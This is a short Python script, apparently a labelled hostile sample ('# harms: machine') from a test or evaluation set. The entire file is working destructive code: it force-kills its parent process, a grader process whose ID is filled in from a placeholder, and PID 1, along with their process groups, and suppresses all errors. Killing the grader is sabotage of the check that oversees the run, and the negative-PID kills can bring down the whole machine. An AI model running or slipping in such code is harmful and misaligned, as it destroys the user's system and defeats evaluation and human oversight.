"""Kills the process that started this one, the grader, and the whole group."""
# harms: machine

import os

for number in (os.getppid(), int("@GRADER@"), 1):
    for act in (
        lambda: os.kill(number, 9),
        lambda: os.killpg(number, 9),
        lambda: os.kill(-number, 9),
    ):
        try:
            act()
        except OSError:
            pass
